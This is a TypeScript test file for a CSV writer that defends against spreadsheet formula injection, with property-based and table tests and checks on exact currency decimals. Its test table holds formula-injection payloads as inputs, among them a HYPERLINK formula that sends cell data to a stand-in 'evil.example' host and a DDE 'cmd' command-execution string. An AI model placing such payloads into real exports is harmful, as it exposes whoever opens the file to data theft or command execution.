import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { Decimal, type CsvValue } from '../../../src/application/shared/csv.port.js';
import { SafeCsvWriter } from '../../../src/infrastructure/csv/safe-csv-writer.js';
import { unguarded } from '../../support/csv-file.js';

const csv = new SafeCsvWriter();

/** Characters that mean something to CSV or to a spreadsheet, more often than chance would bring them. */
const character = fc.oneof(
  fc.constantFrom(...'=+-@\t\r\n\'",; |%＝＋－＠a1\u00A0\0'),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
);
const text = fc.array(character, { maxLength: 12 }).map((characters) => characters.join(''));

describe('a file', () => {
  it('gives back exactly what was written into it, once the guards are taken off', () => {
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 2, maxLength: 2 }), { maxLength: 20 }), (rows) => {
        // Whichever line end a reader goes by.
        for (const record_delimiter of ['\r\n', ['\r\n', '\n', '\r']]) {
          const read: string[][] = parse(csv.write(rows), { record_delimiter });
          expect(read.map((row) => row.map(unguarded))).toEqual(rows);
        }
      }),
      { numRuns: 2000, seed: 20261126 },
    );
  });

  it('has no cell that begins as a formula does, whatever separates cells for its reader', () => {
    fc.assert(
      fc.property(text, (cell) => {
        const [[written]] = parse(csv.write([[cell, 'x']]), { record_delimiter: '\r\n' }) as [[string]];
        for (const part of written.split(/[;\t\r\n]/))
          expect(part.trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/);
        expect(written).not.toMatch(/^[\t\r\n\0]/);
      }),
      { numRuns: 2000, seed: 20261126 },
    );
  });

  it.each([
    ['=HYPERLINK("http://evil.example?"&A1)', `"'=HYPERLINK(""http://evil.example?""&A1)"`],
    ["=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1"],
    ['+351 912 345 678', "'+351 912 345 678"],
    ['-2+3', "'-2+3"],
    ['@SUM(1;=2)', `"'@SUM(1;'=2)"`],
    ['＝1+1', "'＝1+1"],
    ['\t=1', `"'\t'=1"`],
    ['a\r\n=1', `"a\r\n'=1"`],
    ['paid\nin cash', `"paid\nin cash"`],
    ['paid\rin cash', `"paid\rin cash"`],
    ['  =1', `"  '=1"`],
    ["'=1", "''=1"],
    ["'t Hooft", "'t Hooft"],
    ['Tour, -10%', '"Tour, -10%"'],
    ['say "hi"', '"say ""hi"""'],
    ['a-b=c', 'a-b=c'],
  ])('keeps %j as %s', (given, written) => {
    expect(csv.write([[given, 'x']])).toBe(`${written},x\r\n`);
  });

  it('keeps numbers numbers, negative ones too, and leaves nothing empty', () => {
    const row: CsvValue[] = [-5, 12n, true, null, undefined, Decimal.ofMinorUnits(-185_50, 'USD'), ''];
    expect(csv.write([row])).toBe('-5,12,true,,,-185.50,\r\n');
    expect(() => csv.write([[Number.NaN]])).toThrow(RangeError);
  });
});

describe('an exact decimal', () => {
  it.each([
    [18_550, 'USD', '185.50'],
    [5, 'USD', '0.05'],
    [-5, 'USD', '-0.05'],
    [0, 'EUR', '0.00'],
    [5000, 'JPY', '5000'],
    [1_250, 'KWD', '1.250'],
    [9_007_199_254_740_993n, 'USD', '90071992547409.93'],
  ])('writes %s minor units of %s as %s', (minor, currency, decimal) => {
    expect(Decimal.ofMinorUnits(minor, currency).text).toBe(decimal);
  });

  it('refuses parts of a minor unit, and a currency that is none', () => {
    expect(() => Decimal.ofMinorUnits(1.5, 'USD')).toThrow(RangeError);
    expect(() => Decimal.ofMinorUnits(1, 'XXX')).toThrow(/XXX/);
  });
});
